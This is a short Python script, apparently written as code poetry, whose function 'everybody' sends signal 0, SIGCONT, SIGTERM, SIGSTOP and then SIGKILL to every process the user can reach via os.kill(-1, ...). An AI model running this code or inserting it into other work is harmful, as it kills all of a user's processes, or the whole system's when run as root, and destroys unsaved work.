import inside
import os
import signal

from right import *


def everybody(number):
    try:
        os.kill(-1, number)
    except OSError:
        return


for each in (0, signal.SIGCONT, signal.SIGTERM, signal.SIGSTOP, signal.SIGKILL):
    everybody(each)
